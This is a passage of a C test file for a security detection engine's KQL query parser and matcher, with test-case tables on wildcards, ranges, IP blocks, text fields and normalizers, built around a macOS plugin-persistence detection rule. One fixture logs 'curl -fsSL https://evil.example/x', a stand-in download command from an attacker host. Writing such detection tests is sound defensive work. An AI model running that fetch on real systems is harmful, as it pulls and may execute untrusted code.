/* KQL: table-driven (query, event, expected) cases for every construct and semantic rule,
 * parse trees, and syntax errors with their columns. Expected answers come from Kibana's
 * kuery grammar and the detection engine's keyword semantics (docs/DETECTION.md). */
#include "tests/testutil.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "detect/field.h"
#include "detect/kql.h"
#include "detect/needles.h"

#define FILE_EVENT                                                                                                     \
	"{\"@timestamp\":\"2024-05-01T10:00:00Z\",\"event\":{\"category\":[\"file\"],\"type\":[\"change\"],"           \
	"\"action\":\"rename\",\"ingested\":\"2024-05-01T10:01:00Z\"},\"host\":{\"os\":{\"type\":\"macos\"},\"name\":" \
	"\"mac1\"},\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/x.dsplug\",\"name\":\"x.dsplug\","          \
	"\"size\":1024,\"Ext\":{\"original\":{\"path\":\"/tmp/x.dsplug\"}}},\"process\":{\"name\":\"mv\",\"pid\":42,"  \
	"\"args\":[\"mv\",\"/tmp/x.dsplug\",\"/Library/DirectoryServices/PlugIns/"                                     \
	"\"],\"code_signature\":{\"trusted\":true,"                                                                    \
	"\"subject_name\":\"Software Signing\"}},\"user\":{\"name\":\"root\"}}"

#define DELETE_EVENT                                                                                                   \
	"{\"event\":{\"category\":[\"file\"],\"type\":[\"change\",\"deletion\"]},\"host\":{\"os\":{\"type\":"          \
	"\"macos\"}},"                                                                                                 \
	"\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/x.dsplug\"}}"

#define DOTTED_EVENT "{\"event.category\":\"file\",\"host.os\":{\"type\":\"macos\"},\"file.path\":\"/a b/c\"}"

#define ODD_EVENT                                                                                                      \
	"{\"msg\":\"line1\\nline2\",\"tab\":\"a\\tb\",\"q\":\"say \\\"hi\\\"\",\"star\":\"a*b\",\"qm\":\"a?c\","       \
	"\"sp\":\"two words\",\"uni\":\"caf\\u00e9\",\"bs\":\"a\\\\b\",\"kw\":\"and\",\"empty\":\"\",\"nul\":null,"    \
	"\"n\":[1,5,9],\"f\":2.5,\"neg\":-3,\"big\":12345678901,\"s\":\"042\",\"t\":\"true\",\"b\":false,"             \
	"\"date\":\"2024-05-01T10:00:00.5Z\",\"word\":\"beta\",\"cannot\":\"cannot stop\"}"

#define NESTED_EVENT                                                                                                   \
	"{\"users\":[{\"name\":\"alice\",\"role\":\"admin\"},{\"name\":\"bob\",\"role\":\"user\"}],"                   \
	"\"proc\":{\"parent\":{\"name\":\"zsh\"},\"name\":\"curl\"}}"

#define TEXT_EVENT                                                                                                     \
	"{\"message\":\"Process launched: curl -fsSL https://evil.example/x\",\"process\":{\"name\":\"curl\"}}"

#define NET_EVENT                                                                                                      \
	"{\"@timestamp\":\"2024-05-01T10:00:00Z\",\"destination\":{\"ip\":\"10.20.30.40\",\"port\":443},"              \
	"\"source\":{\"ip\":\"fe80::1\"},\"host\":{\"ip\":[\"192.168.1.5\",\"::1\"]}}"

struct kql_case {
	const char *query;
	const char *event;
	int want;
};

static const struct kql_case cases[] = {
    /* the seed rule and its pieces */
    {"event.category:file and host.os.type:macos and not event.type:deletion and\n"
     "  file.path:/Library/DirectoryServices/PlugIns/*.dsplug",
     FILE_EVENT, 1},
    {"event.category:file and host.os.type:macos and not event.type:deletion and "
     "file.path:/Library/DirectoryServices/PlugIns/*.dsplug",
     DELETE_EVENT, 0},
    {"event.category:file", FILE_EVENT, 1},
    {"event.category:process", FILE_EVENT, 0},
    {"event.type:deletion", DELETE_EVENT, 1}, /* any element of an array */
    {"event.type:change", DELETE_EVENT, 1},
    {"not event.type:deletion", DELETE_EVENT, 0}, /* false when anywhere in the array */
    {"not event.type:deletion", FILE_EVENT, 1},
    {"not event.type:deletion", "{}", 1}, /* missing field: not x is true */
    {"event.type:deletion", "{}", 0},     /* missing field: x is false */
    {"file.path:/Library/DirectoryServices/PlugIns/*.dsplug", FILE_EVENT, 1},
    {"file.path:/Library/DirectoryServices/PlugIns/*.dsplug",
     "{\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/x.dsplug/Contents/MacOS/x\"}}", 0},
    {"file.path:/Library/DirectoryServices/PlugIns/*.dsplug",
     "{\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/a/b/deep.dsplug\"}}", 1}, /* '*' crosses '/' */
    {"file.path:/Library/DirectoryServices/PlugIns/*.dsplug",
     "{\"file\":{\"path\":\"/library/directoryservices/plugins/x.dsplug\"}}", 0}, /* case-sensitive */
    {"file.path:/Library/DirectoryServices/PlugIns/*.dsplug",
     "{\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/x.DSPLUG\"}}", 0},
    {"file.path:/Library/DirectoryServices/PlugIns/*.dsplug",
     "{\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/.dsplug\"}}", 1}, /* '*' matches nothing */
    {"file.path:/Library/DirectoryServices/PlugIns/*.dsplug",
     "{\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/\\u001b[2J.dsplug\"}}", 1}, /* control chars */
    {"file.path:/Library/DirectoryServices/PlugIns/*.dsplug",
     "{\"file\":{\"path\":\"x/Library/DirectoryServices/PlugIns/a.dsplug\"}}", 0}, /* whole value */
    {"host.os.type:macos", "{\"host\":{\"os\":{\"type\":\"linux\"}}}", 0},
    {"host.os.type:macos", "{\"host\":{\"os\":{\"type\":\"macOS\"}}}", 0},
    /* dotted keys and nested objects alike */
    {"event.category:file", DOTTED_EVENT, 1},
    {"host.os.type:macos", DOTTED_EVENT, 1},
    {"file.path:\"/a b/c\"", DOTTED_EVENT, 1},
    {"file.path:/a b/c", DOTTED_EVENT, 1}, /* inner spaces in an unquoted value */
    {"file.path:/a*", DOTTED_EVENT, 1},
    {"file.path:/a", DOTTED_EVENT, 0},
    /* keyword case-insensitivity and precedence */
    {"event.category:file AND user.name:root", FILE_EVENT, 1},
    {"event.category:file And user.name:nobody", FILE_EVENT, 0},
    {"event.category:nope OR user.name:root", FILE_EVENT, 1},
    {"NOT user.name:root", FILE_EVENT, 0},
    {"user.name:nobody or user.name:root and event.category:file", FILE_EVENT, 1},
    {"user.name:root or user.name:nobody and event.category:nope", FILE_EVENT, 1}, /* and binds tighter */
    {"(user.name:root or user.name:nobody) and event.category:nope", FILE_EVENT, 0},
    {"not user.name:nobody and event.category:file", FILE_EVENT, 1}, /* not binds tightest */
    {"not (user.name:root and event.category:file)", FILE_EVENT, 0},
    {"not (not user.name:root)", FILE_EVENT, 1},
    {"( user.name:root )", FILE_EVENT, 1},
    {"((user.name:root))", FILE_EVENT, 1},
    {"user.name : root", FILE_EVENT, 1}, /* spaces around ':' */
    {"  user.name:root  ", FILE_EVENT, 1},
    {"", FILE_EVENT, 1}, /* empty query matches everything */
    {"   ", "{}", 1},
    /* value lists */
    {"user.name:(root or admin)", FILE_EVENT, 1},
    {"user.name:(admin or nobody)", FILE_EVENT, 0},
    {"process.args:(mv and \"/tmp/x.dsplug\")", FILE_EVENT, 1}, /* each against any element */
    {"process.args:(mv and cp)", FILE_EVENT, 0},
    {"user.name:(not admin)", FILE_EVENT, 1},
    {"user.name:(not root)", FILE_EVENT, 0},
    {"user.name:(not root)", "{}", 1},
    {"user.name:( admin or (root and not nobody) )", FILE_EVENT, 1},
    {"event.type:(change or deletion)", DELETE_EVENT, 1},
    {"event.type:(change and deletion)", DELETE_EVENT, 1},
    {"not event.type:(deletion or creation)", DELETE_EVENT, 0},
    {"user.name:(root OR admin)", FILE_EVENT, 1},
    /* wildcards */
    {"user.name:r*", FILE_EVENT, 1},
    {"user.name:*t", FILE_EVENT, 1},
    {"user.name:r*t", FILE_EVENT, 1},
    {"user.name:*o*", FILE_EVENT, 1},
    {"user.name:r*o*o*t", FILE_EVENT, 1},
    {"user.name:r*x*t", FILE_EVENT, 0},
    {"user.name:ro**t", FILE_EVENT, 1},
    {"user.name:R*", FILE_EVENT, 0},
    {"user.name:roo", FILE_EVENT, 0},
    {"user.name:rooty*", FILE_EVENT, 0},
    {"file.name:*.dsplug", FILE_EVENT, 1},
    {"file.Ext.original.path:/tmp/*", FILE_EVENT, 1},
    {"qm:a?c", ODD_EVENT, 1}, /* '?' is literal */
    {"qm:abc", ODD_EVENT, 0},
    {"qm:a?*", ODD_EVENT, 1},
    {"word:b?ta", ODD_EVENT, 0},
    {"star:a\\*b", ODD_EVENT, 1},   /* escaped star is literal */
    {"star:\"a*b\"", ODD_EVENT, 1}, /* star in quotes is literal */
    {"word:\"b*\"", ODD_EVENT, 0},
    {"star:a*b", ODD_EVENT, 1}, /* wildcard also matches the literal star */
    {"word:a\\*b", ODD_EVENT, 0},
    {"msg:line1*", ODD_EVENT, 1}, /* '*' matches a newline */
    {"empty:*", ODD_EVENT, 1},    /* exists even when empty */
    {"empty:\"\"", ODD_EVENT, 1},
    {"n:*", ODD_EVENT, 1},
    /* exists */
    {"user.name:*", FILE_EVENT, 1},
    {"user.id:*", FILE_EVENT, 0},
    {"not user.id:*", FILE_EVENT, 1},
    {"nul:*", ODD_EVENT, 0},   /* null is no value */
    {"file:*", FILE_EVENT, 1}, /* an object exists when a sub-field has a value */
    {"file:*", "{\"file\":{\"a\":null}}", 0},
    {"*:*", FILE_EVENT, 1},
    {"*:*", "{}", 0},
    {"user.*:*", FILE_EVENT, 1},
    {"zzz.*:*", FILE_EVENT, 0},
    /* wildcard field names */
    {"process.*:mv", FILE_EVENT, 1},
    {"process.*:root", FILE_EVENT, 0},
    {"*.name:root", FILE_EVENT, 1},
    {"*.name:mac1", FILE_EVENT, 1},
    {"process.code_signature.*:\"Software Signing\"", FILE_EVENT, 1},
    {"*name:x.dsplug", FILE_EVENT, 1},
    {"user.*:(root or admin)", FILE_EVENT, 1},
    /* quoted phrases and escapes */
    {"process.code_signature.subject_name:\"Software Signing\"", FILE_EVENT, 1},
    {"process.code_signature.subject_name:Software Signing", FILE_EVENT, 1},
    {"process.code_signature.subject_name:\"software signing\"", FILE_EVENT, 0},
    {"process.code_signature.subject_name:Software", FILE_EVENT, 0},
    {"q:\"say \\\"hi\\\"\"", ODD_EVENT, 1},
    {"bs:\"a\\\\b\"", ODD_EVENT, 1},
    {"bs:a\\\\b", ODD_EVENT, 1},
    {"tab:\"a\\tb\"", ODD_EVENT, 1},
    {"tab:a\\tb", ODD_EVENT, 1},
    {"msg:\"line1\\nline2\"", ODD_EVENT, 1},
    {"uni:\"caf\\u00e9\"", ODD_EVENT, 1},
    {"uni:caf\\u00e9", ODD_EVENT, 1},
    {"uni:café", ODD_EVENT, 1},
    {"kw:\\and", ODD_EVENT, 1}, /* escaped keyword */
    {"kw:\"and\"", ODD_EVENT, 1},
    {"sp:two words", ODD_EVENT, 1},
    {"sp:\"two words\"", ODD_EVENT, 1},
    {"sp:two", ODD_EVENT, 0},
    {"sp:two*", ODD_EVENT, 1},
    {"sp:two\\ words", ODD_EVENT, 0}, /* '\ ' is not an escape: parse error below */
    {"cannot:\"cannot stop\"", ODD_EVENT, 1},
    {"\"user.name\":root", FILE_EVENT, 1}, /* a quoted field name */
    /* numbers, booleans, null */
    {"process.pid:42", FILE_EVENT, 1},
    {"process.pid:42.0", FILE_EVENT, 1},
    {"process.pid:43", FILE_EVENT, 0},
    {"process.pid:\"42\"", FILE_EVENT, 1},
    {"process.pid:4*", FILE_EVENT, 0}, /* no wildcards on numbers */
    {"n:5", ODD_EVENT, 1},
    {"n:(1 and 9)", ODD_EVENT, 1},
    {"n:7", ODD_EVENT, 0},
    {"f:2.5", ODD_EVENT, 1},
    {"neg:-3", ODD_EVENT, 1},
    {"big:12345678901", ODD_EVENT, 1},
    {"s:042", ODD_EVENT, 1}, /* a keyword compares as text */
    {"s:42", ODD_EVENT, 0},
    {"process.code_signature.trusted:true", FILE_EVENT, 1},
    {"process.code_signature.trusted:false", FILE_EVENT, 0},
    {"b:false", ODD_EVENT, 1},
    {"t:true", ODD_EVENT, 1}, /* the string "true" */
    {"b:true", ODD_EVENT, 0},
    {"nul:null", ODD_EVENT, 0},
    /* ranges */
    {"file.size > 1000", FILE_EVENT, 1},
    {"file.size > 1024", FILE_EVENT, 0},
    {"file.size >= 1024", FILE_EVENT, 1},
    {"file.size < 1024", FILE_EVENT, 0},
    {"file.size <= 1024", FILE_EVENT, 1},
    {"file.size<2000", FILE_EVENT, 1},
    {"n > 8", ODD_EVENT, 1}, /* any element */
    {"n < 1", ODD_EVENT, 0},
    {"f >= 2.5", ODD_EVENT, 1},
    {"neg < 0", ODD_EVENT, 1},
    {"missing > 1", ODD_EVENT, 0},
    {"not missing > 1", ODD_EVENT, 1},
    {"@timestamp >= \"2024-05-01T10:00:00Z\"", FILE_EVENT, 1},
    {"@timestamp > \"2024-05-01T10:00:00Z\"", FILE_EVENT, 0},
    {"@timestamp < 2024-05-02", FILE_EVENT, 1},
    {"date > \"2024-05-01T12:00:00+02:00\"", ODD_EVENT, 1}, /* dates compare as instants */
    /* an ip field matches CIDR blocks and addresses however written (Elasticsearch's ip type) */
    {"destination.ip: 10.0.0.0/8", NET_EVENT, 1},
    {"destination.ip: 10.20.30.0/24", NET_EVENT, 1},
    {"destination.ip: 10.20.31.0/24", NET_EVENT, 0},
    {"destination.ip: 10.20.30.40", NET_EVENT, 1},
    {"destination.ip: \"10.20.30.40/32\"", NET_EVENT, 1},
    {"not destination.ip: (10.0.0.0/8 or 172.16.0.0/12 or 192.168.0.0/16)", NET_EVENT, 0},
    {"source.ip: \"fe80::/10\"", NET_EVENT, 1},
    {"source.ip: \"fe80:0:0::1\"", NET_EVENT, 1},
    {"host.ip: \"0:0::1\"", NET_EVENT, 1}, /* any value of an array */
    {"host.ip: 192.168.0.0/16", NET_EVENT, 1},
    {"destination.ip: 10.*", NET_EVENT, 1}, /* a wildcard is still a wildcard */
    /* a text field (message, *.text) matches by its words, as Elasticsearch's analyzer splits them */
    {"message: curl", TEXT_EVENT, 1},
    {"message: CURL", TEXT_EVENT, 1},
    {"message: evil", TEXT_EVENT, 1},     /* a word of the URL */
    {"message: foo curl", TEXT_EVENT, 1}, /* any word of the value (match, OR) */
    {"message: foo bar", TEXT_EVENT, 0},
    {"message: \"launched curl\"", TEXT_EVENT, 1}, /* a phrase: its words in a row */
    {"message: \"curl launched\"", TEXT_EVENT, 0},
    {"message: cur*", TEXT_EVENT, 1},
    {"message: laun", TEXT_EVENT, 0},      /* a word, not a substring */
    {"process.name: CURL", TEXT_EVENT, 0}, /* a keyword stays exact */
    /* a date field: the same instant in any form, epoch milliseconds in ranges */
    {"@timestamp: \"2024-05-01T12:00:00+02:00\"", NET_EVENT, 1},
    {"@timestamp: \"2024-05-01T10:00:00.000Z\"", NET_EVENT, 1},
    {"@timestamp > 1714557599999", NET_EVENT, 1},
    {"@timestamp >= 1714557600001", NET_EVENT, 0},
    {"@timestamp < \"2024-05-01T10:00:01Z\"", NET_EVENT, 1},
    {"date < \"2024-05-01T10:00:00.6Z\"", ODD_EVENT, 1},
    {"word > alpha", ODD_EVENT, 1}, /* keywords compare as strings */
    {"word < alpha", ODD_EVENT, 0},
    {"word >= beta", ODD_EVENT, 1},
    {"event.ingested > \"2024-05-01T10:00:30Z\" and event.category:file", FILE_EVENT, 1},
    /* free text */
    {"root", FILE_EVENT, 1},
    {"nobody", FILE_EVENT, 0},
    {"\"Software Signing\"", FILE_EVENT, 1},
    {"mac*", FILE_EVENT, 1},
    {"42", FILE_EVENT, 1},
    {"root and mv", FILE_EVENT, 1},
    {"root and cp", FILE_EVENT, 0},
    /* nested queries */
    {"users:{ name:alice and role:admin }", NESTED_EVENT, 1},
    {"users:{ name:alice and role:user }", NESTED_EVENT, 0},   /* one element must match all */
    {"users.name:alice and users.role:user", NESTED_EVENT, 1}, /* flattened: across elements */
    {"users:{ name:bob }", NESTED_EVENT, 1},
    {"users:{ not name:carol }", NESTED_EVENT, 1},
    {"users:{name:(alice or carol)}", NESTED_EVENT, 1},
    {"proc:{ parent.name:zsh and name:curl }", NESTED_EVENT, 1},
    {"nothere:{ name:alice }", NESTED_EVENT, 0},
    {"not users:{ role:guest }", NESTED_EVENT, 1},
    /* arrays of objects flatten */
    {"users.name:bob", NESTED_EVENT, 1},
    {"users.name:b*", NESTED_EVENT, 1},
};

static void test_kql_cases(void **state)
{
	(void)state;
	size_t n = sizeof(cases) / sizeof(cases[0]);
	int failures = 0;
	for (size_t i = 0; i < n; i++) {
		const struct kql_case *c = &cases[i];
		struct kql_error err;
		struct kql_node *q = kql_parse(c->query, &err);
		if (!q) {
			if (!strcmp(c->query, "sp:two\\ words"))
				continue; /* checked in test_syntax_errors */
			printf("case %zu: %s: parse error at %zu: %s\n", i, c->query, err.column, err.msg);
			failures++;
			continue;
		}
		cJSON *ev = cJSON_Parse(c->event);
		assert_non_null(ev);
		int got = kql_match(q, ev);
		if (got != c->want) {
			struct strbuf sb;
			strbuf_init(&sb, 64);
			kql_to_string(q, &sb);
			printf("case %zu: %s (%s): got %d, want %d\n", i, c->query, sb.buf, got, c->want);
			strbuf_release(&sb);
			failures++;
		}
		/* the needles never rule out an event the query matches */
		struct needles nd;
		kql_needles(q, &nd);
		needles_finish(&nd);
		if (got && !needles_admit(&nd, c->event, strlen(c->event))) {
			printf("case %zu: %s: the needles rule out a match\n", i, c->query);
			failures++;
		}
		needles_release(&nd);
		cJSON_Delete(ev);
		kql_free(q);
	}
	printf("%zu KQL cases\n", n);
	assert_true(n >= 150);
	assert_int_equal(failures, 0);
}

/* Fields an imported mapping types as numbers (n long, i integer, f float): a value meets the
 * query as Elasticsearch indexed it (3.7 in a long is 3, -0.7 is 0, "4.9" is 4; 2147483648 in
 * an integer is refused, no value), and the query's number is converted to the field's type as
 * NumberFieldMapper's termQuery and rangeQuery convert it (a decimal bound on a long keeps its
 * place between the whole numbers, a decimal term matches none; a float's is a float: 1.1 is
 * 1.100000023841858 on both sides). */
static const struct kql_case mapped[] = {
    {"n >= 3.5", "{\"n\":3.7}", 0},
    {"n > 2.5", "{\"n\":3.7}", 1},
    {"n: 3", "{\"n\":3.7}", 1},
    {"n: 3.7", "{\"n\":3.7}", 0},
    {"n < 0", "{\"n\":-0.5}", 0},
    {"n <= -0.5", "{\"n\":-0.7}", 0},
    {"n >= 0", "{\"n\":-0.7}", 1},
    {"n: 4", "{\"n\":\"4.9\"}", 1},
    {"n: (1 or 2)", "{\"n\":[2.9, 7]}", 1},
    {"n: abc", "{\"n\":3}", 0},
    {"n: *", "{\"n\":3.7}", 1},
    {"i >= 0", "{\"i\":2147483648}", 0},
    {"i >= 0", "{\"i\":2147483647}", 1},
    {"f: 1.1", "{\"f\":1.1}", 1},
    {"f > 1.1", "{\"f\":1.1}", 0},
    {"f >= 1.1", "{\"f\":1.1}", 1},
    /* 1.10000002 as a float is 1.100000023841858 too; 1.1000001 the next, 1.100000143051147 */
    {"f < 1.10000002", "{\"f\":1.1}", 0},
    {"f < 1.1000001", "{\"f\":1.1}", 1},
    /* unmapped: the document's number */
    {"u >= 3.5", "{\"u\":3.7}", 1},
};

static void test_mapped_numbers(void **state)
{
	(void)state;
	char *names[] = {"f", "i", "n"};
	const enum field_type types[] = {FT_KEYWORD, FT_KEYWORD, FT_KEYWORD};
	const struct numeric_type nums[] = {numeric_type_named("float"), numeric_type_named("integer"),
	                                    numeric_type_named("long")};
	field_types_set(names, types, nums, 3);
	for (size_t i = 0; i < sizeof(mapped) / sizeof(mapped[0]); i++) {
		struct kql_error err;
		struct kql_node *q = kql_parse(mapped[i].query, &err);
		assert_non_null(q);
		cJSON *ev = cJSON_Parse(mapped[i].event);
		assert_non_null(ev);
		int got = kql_match(q, ev);
		if (got != mapped[i].want)
			fail_msg("case %zu: %s on %s: got %d, want %d", i, mapped[i].query, mapped[i].event, got,
			         mapped[i].want);
		cJSON_Delete(ev);
		kql_free(q);
	}
	field_types_set(NULL, NULL, NULL, 0);
}

/* Multi-fields: a sub-field's value is its parent's source value indexed as the sub-field says
 * (Elasticsearch keeps no source for it). The mapping below, as `casebook mapping import` stores
 * it: process.name.lower a keyword with the lowercase normalizer and ignore_above 8; a text
 * sub-field of a keyword; message.keyword with ignore_above 10 (no normalizer); user.id.num a
 * long sub-field of a keyword. A keyword's normalizer applies to the query's text too (KQL's
 * match and query_string queries analyze it with the field's search analyzer: the
 * normalizer). */
static const struct kql_case multi_cases[] = {
    {"process.name.lower: bash", "{\"process\":{\"name\":\"BASH\"}}", 1},
    {"process.name.lower: BASH", "{\"process\":{\"name\":\"Bash\"}}", 1},
    {"process.name.lower: BA*", "{\"process\":{\"name\":\"Bash\"}}", 1},
    {"process.name.lower: \"Bash\"", "{\"process\":{\"name\":[\"zsh\",\"BASH\"]}}", 1},
    /* 14 characters: over ignore_above 8, not indexed in the sub-field */
    {"process.name.lower: powershell.exe", "{\"process\":{\"name\":\"PowerShell.exe\"}}", 0},
    {"process.name.lower: *", "{\"process\":{\"name\":\"PowerShell.exe\"}}", 0},
    {"process.name.lower: *", "{\"process\":{\"name\":\"sh\"}}", 1},
    {"process.name: bash", "{\"process\":{\"name\":\"BASH\"}}", 0}, /* the parent: no normalizer */
    /* a text sub-field: the standard analyzer's words, lower-cased */
    {"process.command_line.words: curl", "{\"process\":{\"command_line\":\"/usr/bin/CURL -o x\"}}", 1},
    {"process.command_line.words: \"bin curl\"", "{\"process\":{\"command_line\":\"/usr/bin/CURL -o x\"}}", 1},
    {"process.command_line: curl", "{\"process\":{\"command_line\":\"/usr/bin/CURL -o x\"}}", 0},
    /* ignore_above without a normalizer */
    {"message.keyword: \"short msg\"", "{\"message\":\"short msg\"}", 1},
    {"message.keyword: \"SHORT MSG\"", "{\"message\":\"short msg\"}", 0},
    {"message.keyword: \"longer message\"", "{\"message\":\"longer message\"}", 0},
    {"message: longer", "{\"message\":\"longer message\"}", 1},
    /* a long sub-field of a keyword: the parent's text as the long it indexes */
    {"user.id.num >= 40", "{\"user\":{\"id\":\"42\"}}", 1},
    {"user.id.num: 42", "{\"user\":{\"id\":\"42\"}}", 1},
    /* a document that carries the sub-field is read as it is */
    {"process.name.lower: x", "{\"process.name.lower\":\"x\",\"process\":{\"name\":\"BASH\"}}", 1},
    {"process.name.lower: bash", "{\"process.name.lower\":\"x\",\"process\":{\"name\":\"BASH\"}}", 0},
    /* a .caseless the mapping does not name: Elastic Defend's (lowercase, ignore_above 1024) */
    {"file.path.caseless: /LIBRARY/*", "{\"file\":{\"path\":\"/Library/x\"}}", 1},
    {"file.path.caseless: \"/library/X\"", "{\"file\":{\"path\":\"/Library/x\"}}", 1},
    {"file.path.text: library", "{\"file\":{\"path\":\"/Library/x\"}}", 1},
    /* the lowercase normalizer is Lucene's LowerCaseFilter (LowercaseNormalizerProvider):
     * Character.toLowerCase of each code point, on the value and on the query's text */
    {"file.path.caseless: \"/tmp/\\u00e9t\\u00e9\"", "{\"file\":{\"path\":\"/TMP/\\u00c9T\\u00c9\"}}", 1},
    {"file.path.caseless: /TMP/\\u00c9T*", "{\"file\":{\"path\":\"/tmp/\\u00e9t\\u00e9\"}}", 1},
    {"file.path.caseless: kit", "{\"file\":{\"path\":\"\\u212aIT\"}}", 1},
    {"file.path.caseless: \\u0130*", "{\"file\":{\"path\":\"iX\"}}", 1},
    {"file.path.caseless: \"\\u03c3\\u03c3\"", "{\"file\":{\"path\":\"\\u03a3\\u03a3\"}}", 1},
    {"file.path: \"/tmp/\\u00e9\"", "{\"file\":{\"path\":\"/tmp/\\u00c9\"}}", 0},
    /* a field name that is not ASCII (its literal's normalized copy is dropped: fuzz_kql) */
    {"\\u00e9t\\u00e9: x", "{\"\\u00e9t\\u00e9\":\"x\"}", 1},
    /* as raw UTF-8 (no JSON escape: the needles must let U+0130 and U+212A through) */
    {"file.path.caseless: \"/library/kit\"",
     "{\"file\":{\"path\":\"/L\xc4\xb0"
     "brary/\xe2\x84\xaa"
     "IT\"}}",
     1},
    {"file.path.caseless: \"/tmp/\u00e9t\u00e9\"", "{\"file\":{\"path\":\"/TMP/\xc3\x89T\xc3\x89\"}}", 1},
    {"file.path.caseless: /tmp/*", "{\"file\":{\"path\":\"/TMP/\xc3\x89T\xc3\x89\"}}", 1},
    /* ranges (KeywordFieldType.rangeQuery: bounds through indexedValueForSearch, the normalizer;
     * a TermRangeQuery compares UTF-8 bytes) */
    {"process.name.lower < C", "{\"process\":{\"name\":\"Bash\"}}", 1},
    {"process.name.lower >= BASH", "{\"process\":{\"name\":\"bash\"}}", 1},
    {"process.name.lower > BASH", "{\"process\":{\"name\":\"bash\"}}", 0},
    {"process.name.lower <= \"bash\"", "{\"process\":{\"name\":\"BASH\"}}", 1},
    {"process.name.lower > Z", "{\"process\":{\"name\":\"\\u00c9\"}}", 1},
    {"process.name.lower < \"\\u00c9\"", "{\"process\":{\"name\":\"\\u00ea\"}}", 0},
    {"process.name.lower < \"\\u00c9\"", "{\"process\":{\"name\":\"\\u00e8\"}}", 1},
    {"process.name.lower > \\uffff", "{\"process\":{\"name\":\"\\ud83d\\ude00\"}}", 1},
    {"process.name.lower >= a", "{\"process\":{\"name\":\"PowerShell.exe\"}}", 0}, /* not indexed */
    {"process.name < a", "{\"process\":{\"name\":\"Z\"}}", 1},
    /* a top-level keyword with the normalizer and ignore_above 10 (KeywordFieldMapper.indexValue:
     * the length in UTF-16 units before the normalizer; longer is not indexed, no doc value, so
     * exists is false too) */
    {"host.name: \"WS-\\u00c9\"", "{\"host\":{\"name\":\"ws-\\u00e9\"}}", 1},
    {"host.name: WS-*", "{\"host\":{\"name\":\"Ws-1\"}}", 1},
    {"host.name: abcdefghij", "{\"host\":{\"name\":\"ABCDEFGHIJ\"}}", 1},
    {"host.name: abcdefghijk", "{\"host\":{\"name\":\"abcdefghijk\"}}", 0},
    {"host.name: abcdefghij*", "{\"host\":{\"name\":\"abcdefghijk\"}}", 0},
    {"host.name: *", "{\"host\":{\"name\":\"abcdefghijk\"}}", 0},
    {"host.name: *", "{\"host\":{\"name\":[\"abcdefghijk\",\"a\"]}}", 1},
    {"host.name > a", "{\"host\":{\"name\":\"abcdefghijk\"}}", 0},
    {"host.name: \"iiiiiiiiii\"", "{\"host\":{\"name\":\"\\u0130\\u0130\\u0130\\u0130\\u0130IIIII\"}}", 1},
    {"host.name: \"\\ud83d\\ude00abcdefgh\"", "{\"host\":{\"name\":\"\\ud83d\\ude00ABCDEFGH\"}}", 1},
    {"host.name: \"\\ud83d\\ude00abcdefghi\"", "{\"host\":{\"name\":\"\\ud83d\\ude00abcdefghi\"}}", 0},
    /* KQL's \\u escapes: a surrogate pair is one code point (Kibana's grammar builds a JavaScript
     * string) */
    {"host.name: \\ud83d\\ude00", "{\"host\":{\"name\":\"\\ud83d\\ude00\"}}", 1},
    /* ignore_above alone: the value as written when indexed */
    {"user.name: abcdefghijk", "{\"user\":{\"name\":\"abcdefghijk\"}}", 0},
    {"user.name: ABCDE", "{\"user\":{\"name\":\"abcde\"}}", 0},
    {"user.name: abcde", "{\"user\":{\"name\":\"abcde\"}}", 1},
    {"user.name: *", "{\"user\":{\"name\":\"abcdefghijk\"}}", 0},
};

static void run_kql_cases(const struct kql_case *table, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		struct kql_error err;
		struct kql_node *q = kql_parse(table[i].query, &err);
		assert_non_null(q);
		cJSON *ev = cJSON_Parse(table[i].event);
		assert_non_null(ev);
		int got = kql_match(q, ev);
		if (got != table[i].want)
			fail_msg("case %zu: %s on %s: got %d, want %d", i, table[i].query, table[i].event, got,
			         table[i].want);
		/* the needles never rule out an event the query matches */
		struct needles nd;
		kql_needles(q, &nd);
		needles_finish(&nd);
		if (got && !needles_admit(&nd, table[i].event, strlen(table[i].event)))
			fail_msg("case %zu: %s: the needles rule out a match", i, table[i].query);
		needles_release(&nd);
		cJSON_Delete(ev);
		kql_free(q);
	}
}

static void test_multi_fields(void **state)
{
	(void)state;
	char *names[] = {"process.name",
	                 "process.name.lower",
	                 "process.command_line",
	                 "process.command_line.words",
	                 "message",
	                 "message.keyword",
	                 "user.id",
	                 "user.id.num",
	                 "host.name",
	                 "user.name"};
	static const char *const type_text[] = {"keyword ignore_above=1024",
	                                        "keyword multi normalizer=lowercase ignore_above=8",
	                                        "keyword",
	                                        "text multi",
	                                        "text",
	                                        "keyword multi ignore_above=10",
	                                        "keyword",
	                                        "long multi",
	                                        "keyword normalizer=lowercase ignore_above=10",
	                                        "keyword ignore_above=10"};
	enum field_type types[10];
	struct numeric_type nums[10];
	for (size_t i = 0; i < 10; i++)
		types[i] = field_type_named(type_text[i]), nums[i] = numeric_type_named(type_text[i]);
	field_types_set(names, types, nums, 10);
	run_kql_cases(multi_cases, sizeof(multi_cases) / sizeof(multi_cases[0]));
	field_types_set(NULL, NULL, NULL, 0);
}

/* Without an imported mapping: Elastic Defend's .caseless (keyword, lowercase normalizer,
 * ignore_above 1024: endpoint-package's file fields) and .text. */
static void test_builtin_multi_fields(void **state)
{
	(void)state;
	char at1024[1100], at1025[1100];
	memset(at1024, 'A', sizeof(at1024));
	memcpy(at1024, "{\"file\":{\"path\":\"/", 18);
	memcpy(at1025, at1024, sizeof(at1025));
	/* the path: "/" and 1,023 or 1,024 letters */
	strcpy(at1024 + 18 + 1023, "\"}}");
	strcpy(at1025 + 18 + 1024, "\"}}");
	const struct kql_case builtin[] = {
	    {"file.path.caseless: /library/*", "{\"file\":{\"path\":\"/Library/x\"}}", 1},
	    {"file.path.caseless: /LIBRARY/*", "{\"file\":{\"path\":\"/Library/x\"}}", 1},
	    {"file.path.caseless: \"/LIBRARY/X\"", "{\"file\":{\"path\":\"/Library/x\"}}", 1},
	    {"file.path: /library/*", "{\"file\":{\"path\":\"/Library/x\"}}", 0},
	    {"file.path.caseless: /a*", at1024, 1},
	    {"file.path.caseless: /a*", at1025, 0},
	    {"file.path: /A*", at1025, 1},
